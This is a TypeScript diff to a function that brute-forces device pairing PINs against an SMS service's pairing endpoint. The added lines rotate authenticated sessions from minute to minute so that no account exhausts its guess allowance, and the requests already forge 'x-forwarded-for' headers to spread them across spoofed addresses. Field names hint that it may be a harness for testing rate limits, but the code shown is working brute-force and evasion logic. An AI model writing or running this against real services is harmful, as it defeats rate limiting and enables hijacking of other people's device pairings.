@@ -219,10 +219,13 @@ export async function guessPairingCodes(
   );
   const result: Guessed = { guesses: 0, evaluated: 0, allowed, rightSent: 0, rightTaken: 0 };
   const each = Math.ceil(guesses / minutes);
+  // Each minute has accounts of its own, so that none has used up its guesses before.
+  const fresh = Math.max(1, Math.floor(accounts / minutes));
+  const account = (n: number) => (Math.floor(n / each) * fresh + (n % fresh)) % accounts;
   const request = (devicepin: string, n: number): FloodRequest => ({
     method: 'POST',
     path: `${SMS}/pairing/find`,
-    headers: { ...sessions[n % accounts]!, 'x-forwarded-for': addressOf(n % addresses) },
+    headers: { ...sessions[account(n)]!, 'x-forwarded-for': addressOf(n % addresses) },
     body: { devicepin },
   });
   for (let minute = 0; minute < minutes; minute += 1) {
